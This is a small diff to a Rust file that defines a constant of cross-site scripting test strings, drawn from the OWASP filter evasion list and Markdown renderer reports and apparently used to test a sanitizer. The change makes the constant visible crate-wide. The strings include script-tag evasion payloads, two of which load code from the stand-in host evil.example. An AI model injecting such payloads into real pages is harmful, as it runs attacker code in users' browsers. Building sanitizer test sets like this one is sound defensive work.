@@ -1,7 +1,7 @@
 //! Texts that have made pages act: of the OWASP filter evasion list, of reports about renderers of Markdown, and of this project.
 
 /// One text a line.
-pub(super) const TEXTS: &str = r#"<script>alert(1)</script>
+pub(crate) const TEXTS: &str = r#"<script>alert(1)</script>
 <SCRIPT SRC=https://evil.example/x.js></SCRIPT>
 <script src=//evil.example/x.js>
 <scr<script>ipt>alert(1)</scr</script>ipt>
